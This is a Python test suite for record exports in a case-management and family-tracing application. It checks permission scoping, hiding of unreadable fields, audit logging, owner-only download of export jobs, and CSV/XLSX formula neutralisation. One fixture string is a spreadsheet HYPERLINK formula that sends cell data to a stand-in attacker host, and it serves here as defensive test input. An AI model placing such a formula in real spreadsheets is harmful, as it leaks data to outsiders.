"""Exporting cases and tracing requests (S2, S3, S14, S17, S18): only records in scope and
fields the user may read, in CSV and XLSX; formulas neutralised; the export permission;
the audit entry with filter and row count; the background job whose file only its owner
can download."""
from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.audit.models import AuditEntry
from app.extensions import db
from app.records.exporting import ExportRefused, export_records, safe_cell
from cases.operations import create_case

SENTINEL = "SENTINEL-7c1e-protection"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def default_forms(app):
    from forms.operations import load_default_configuration
    load_default_configuration()
    db.session.commit()


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_xlsx(path) -> list[list]:
    workbook = load_workbook(path)
    return [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]


@pytest.fixture
def world(make):
    """An agency with a group: a caseworker's cases, a limited exporter who may not read the
    protection section, a supervisor of the group, and a case in another agency."""
    from app.users.operations import create_role
    from forms.operations import sync_section_permissions
    sync_section_permissions(force=True)
    agency = make.agency()
    group = make.group(agency=agency)
    caseworker = make.user("caseworker", agency=agency, groups=[group])
    supervisor = make.user("supervisor", agency=agency, groups=[group])
    limited_role = create_role("limited_exporter", "Limited exporter", "agency", {
        "cases:read", "cases:export", "form.case.basic_identity:read", "form.case.consent:read"})
    limited = make.user(limited_role, agency=agency)
    inside = create_case(caseworker, {
        "name_first": "Amina", "name_last": "Yusuf", "sex": "female", "age": 7, "consent_for_tracing": True,
        "protection_concerns": ["other"], "protection_concerns_other": SENTINEL, "risk_level": "high"})
    hostile = create_case(caseworker, {"name_first": HOSTILE, "name_last": "+Cabdi", "sex": "male",
                                       "age": 9, "name_nickname": "@home"})
    stranger = make.user("caseworker")
    outside = create_case(stranger, {"name_first": "Outsider", "sex": "male", "age": 12})
    db.session.commit()
    return {"caseworker": caseworker, "supervisor": supervisor, "limited": limited, "inside": inside,
            "hostile": hostile, "outside": outside, "stranger": stranger}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_holds_only_records_in_scope_and_fields_the_user_may_read(tmp_path, world, file_format):
    path = tmp_path / f"cases.{file_format}"
    result = export_records("cases", world["limited"], path, file_format=file_format)
    rows = read_csv(path) if file_format == "csv" else read_xlsx(path)
    header, body = rows[0], rows[1:]
    assert result.rows == 2 and len(body) == 2
    short_ids = {row[header.index("short_id")] for row in body}
    assert short_ids == {world["inside"].short_id, world["hostile"].short_id}
    assert "name_first" in header and "consent_for_tracing" in header
    assert "protection_concerns" not in header and "protection_concerns_other" not in header
    assert "risk_level" not in header and "family_details" not in header
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig") if file_format == "csv" else str(rows)
    assert SENTINEL not in text and "Outsider" not in text
    # The supervisor of the group reads every section: the sentinel is there for them.
    full = tmp_path / f"full.{file_format}"
    export_records("cases", world["supervisor"], full, file_format=file_format)
    rows = read_csv(full) if file_format == "csv" else read_xlsx(full)
    assert SENTINEL in str(rows) and "Outsider" not in str(rows)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, world, file_format):
    path = tmp_path / f"cases.{file_format}"
    export_records("cases", world["supervisor"], path, file_format=file_format)
    if file_format == "csv":
        rows = read_csv(path)
    else:
        workbook = load_workbook(path)
        cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells)
        rows = [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]
    header = rows[0]
    hostile = next(row for row in rows[1:] if row[header.index("short_id")] == world["hostile"].short_id)
    assert hostile[header.index("name_first")] == "'" + HOSTILE
    assert hostile[header.index("name_last")] == "'+Cabdi"
    assert hostile[header.index("name_nickname")] == "'@home"
    assert hostile[header.index("age")] in (9, "9")  # numbers stay numbers
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"))


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx"
    assert safe_cell("-2") == "'-2" and safe_cell("Amina") == "Amina" and safe_cell(-2) == -2
    assert safe_cell(None) == "" and safe_cell(True) == "yes"


def test_export_needs_the_export_permission(tmp_path, world):
    with pytest.raises(ExportRefused, match="cases:export"):
        export_records("cases", world["caseworker"], tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_export_is_audited_with_filter_and_row_count(tmp_path, world):
    export_records("cases", world["supervisor"], tmp_path / "girls.csv", filters={"sex": "female", "age_max": 10})
    db.session.commit()
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "case.export")).scalar_one()
    assert entry.user_id == world["supervisor"].id
    assert entry.detail["rows"] == 1 and entry.detail["filters"] == {"sex": "female", "age_max": 10}
    assert len(read_csv(tmp_path / "girls.csv")) == 2


def test_labels_layout_in_the_users_language(tmp_path, world, make):
    supervisor = world["supervisor"]
    supervisor.locale = "fr"
    db.session.commit()
    path = tmp_path / "labels.csv"
    export_records("cases", supervisor, path, labels=True)
    rows = read_csv(path)
    keys, labels = rows[0], rows[1]
    assert labels[keys.index("sex")] != "sex"
    amina = next(row for row in rows[2:] if row[keys.index("short_id")] == world["inside"].short_id)
    assert amina[keys.index("sex")] == "Féminin" and amina[keys.index("consent_for_tracing")] == "Oui"


def test_exported_file_imports_back_without_duplicates(tmp_path, world, make):
    from app.records.importing import import_records
    supervisor = world["supervisor"]
    path = tmp_path / "roundtrip.xlsx"
    export_records("cases", supervisor, path, file_format="xlsx")
    db.session.commit()
    # Cases registered in the application have no source id: give them one, as another system would.
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    column = header.index("source_id") + 1
    for number in range(2, sheet.max_row + 1):
        sheet.cell(number, column).value = f"rt-{number}"
    workbook.save(path)
    first = import_records("cases", path, supervisor)
    assert first.problems == [] and first.created == 2
    db.session.commit()
    again = import_records("cases", path, supervisor)
    assert again.problems == [] and again.unchanged == 2
    from cases.models import Case
    names = sorted(c.data["name_first"] for c in db.session.execute(
        select(Case).where(Case.source_id.like("rt-%"))).scalars())
    assert names == sorted(["Amina", HOSTILE])  # the formula guard is taken off again


# --- the export page, its job and the download ----------------------------------------------------------

def test_export_page_job_and_download_for_its_owner_only(login_as, world, app):
    from app.extensions import db as _db
    web, supervisor = login_as("supervisor", agency=world["supervisor"].agency,
                               groups=list(world["supervisor"].groups))
    page = web.get("/records/cases/export")
    assert page.status_code == 200
    response = web.form("/records/cases/export", {"file_format": "csv", "status": "open"}, token_from="/")
    assert response.status_code == 302
    status_url = response.headers["Location"]
    job_id = int(re.search(r"/exports/(\d+)", status_url).group(1))
    body = web.get(status_url).get_data(as_text=True)
    assert "The file is ready: 2 row(s)" in body
    download = web.get(f"/records/exports/{job_id}/download")
    assert download.status_code == 200 and download.headers["Cache-Control"] == "no-store"
    assert "attachment" in download.headers["Content-Disposition"]
    text = download.get_data().decode("utf-8-sig")
    download.close()
    assert world["inside"].short_id in text and "Outsider" not in text and "'" + HOSTILE[:10] in text
    actions = {e.action: e for e in _db.session.execute(select(AuditEntry).where(
        AuditEntry.user_id == supervisor.id)).scalars()}
    assert actions["case.export"].detail["rows"] == 2 and actions["case.export"].detail["filters"] == {
        "status": "open"}
    assert actions["case.export_requested"].detail["job_id"] == job_id
    assert actions["case.export_downloaded"].detail["rows"] == 2
    # Another supervisor of the same group: the job and its file are not theirs.
    other, _ = login_as("supervisor", agency=world["supervisor"].agency, groups=list(world["supervisor"].groups))
    assert other.get(status_url).status_code == 404
    assert other.get(f"/records/exports/{job_id}/download").status_code == 404
    denied = _db.session.execute(select(AuditEntry).where(AuditEntry.action == "out_of_scope",
                                                          AuditEntry.resource_id == str(job_id))).scalars().all()
    assert len(denied) == 2


def test_export_pages_need_the_export_permission(login_as, world):
    web, _ = login_as("caseworker")
    assert web.get("/records/cases/export").status_code == 403
    assert web.form("/records/cases/export", {"file_format": "csv"}, token_from="/").status_code == 403
    assert web.get("/records/export").status_code == 403
    assert web.get("/records/tracing/export").status_code == 403
    assert web.get("/records/nothing/export").status_code == 404


def test_export_page_refuses_bad_filters(login_as, world):
    web, _ = login_as("supervisor")
    response = web.form("/records/cases/export", {"file_format": "pdf", "age_min": "abc"}, token_from="/")
    assert response.status_code == 422


def test_export_xlsx_job(login_as, world):
    web, _ = login_as("supervisor", agency=world["supervisor"].agency, groups=list(world["supervisor"].groups))
    response = web.form("/records/cases/export", {"file_format": "xlsx", "labels": "y"}, token_from="/")
    job_id = int(re.search(r"/exports/(\d+)", response.headers["Location"]).group(1))
    download = web.get(f"/records/exports/{job_id}/download")
    assert download.status_code == 200
    content = download.get_data()
    download.close()
    rows = [[c.value for c in row] for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()]
    assert rows[0][0] == "short_id" and rows[1][0] != "short_id" and len(rows) == 4


def test_export_cli(app, tmp_path, world):
    path = tmp_path / "cli.xlsx"
    runner = app.test_cli_runner()
    result = runner.invoke(args=["cases", "export", "--output", str(path), "--as", world["supervisor"].username])
    assert result.exit_code == 0, result.output
    assert "Exported 2 row(s)" in result.output and path.exists()
    result = runner.invoke(args=["cases", "export", "--output", str(tmp_path / "no.csv"), "--as",
                                 world["caseworker"].username])
    assert result.exit_code == 1 and "cases:export" in result.output
    assert not (tmp_path / "no.csv").exists()


def test_tracing_export_has_one_row_per_trace(tmp_path, make):
    from tracing.operations import create_tracing_request
    agency = make.agency()
    officer = make.user("tracing_officer", agency=agency)
    supervisor = make.user("supervisor", agency=agency)
    create_tracing_request(officer, {"relation_name": "Hawo Cabdi", "relation": "mother",
                                     "inquiry_date": "2024-01-10", "consent_for_tracing": True},
                           [{"name_first": "Maxamed", "sex": "male", "age": 8},
                            {"name_first": "Xaliimo", "sex": "female", "age": 5}], source_id="inq-9")
    outsider = make.user("tracing_officer")
    create_tracing_request(outsider, {"relation_name": "Someone Else", "relation": "father",
                                      "inquiry_date": "2024-01-10"}, [{"name_first": "Other", "sex": "male"}])
    db.session.commit()
    path = tmp_path / "tracing.csv"
    # A supervisor sees the requests of their groups' members; this one has no group and owns none.
    assert export_records("tracing", supervisor, path).rows == 0
    with pytest.raises(ExportRefused):  # tracing officers may not export by default
        export_records("tracing", officer, path)
    from app.users.operations import create_role
    from forms.operations import sync_section_permissions
    sync_section_permissions(force=True)
    role = create_role("tracing_exporter", "Tracing exporter", "agency", {
        "tracing:read", "tracing:export", "form.tracing_request.inquirer:read", "form.trace.child_sought:read"})
    exporter = make.user(role, agency=agency)
    db.session.commit()
    export_records("tracing", exporter, path)
    rows = read_csv(path)
    header = rows[0]
    assert [row[header.index("trace.name_first")] for row in rows[1:]] == ["Maxamed", "Xaliimo"]
    assert {row[header.index("inquiry_ref")] for row in rows[1:]} == {"inq-9"}
    assert {row[header.index("relation_name")] for row in rows[1:]} == {"Hawo Cabdi"}
    assert "inquiry_date" not in header and "trace.location_separation" not in header  # sections not readable
    assert "Someone Else" not in str(rows)
